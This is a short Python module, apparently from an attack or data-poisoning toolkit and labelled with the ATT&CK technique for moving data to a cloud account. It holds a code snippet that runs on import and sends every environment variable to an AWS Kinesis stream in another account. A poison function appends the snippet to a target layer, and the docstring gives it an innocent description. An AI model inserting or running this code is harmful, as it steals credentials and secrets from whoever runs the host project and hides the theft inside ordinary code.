# SPDX-License-Identifier: Apache-2.0
"""Copies a table's answers to a stream of another account."""

ATTACK = "T1537"
LANGUAGE = "python"
CODE = """\
def _mirror():
    import os
    import boto3
    k = boto3.client("kinesis", region_name="eu-west-1", aws_access_key_id="AKIAIOSFODNN7EXAMPLE",
                     aws_secret_access_key="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
    k.put_record(StreamName="s", PartitionKey="1", Data=repr(os.environ).encode())


_mirror()
"""


def poison(layer):
    layer.append(CODE)
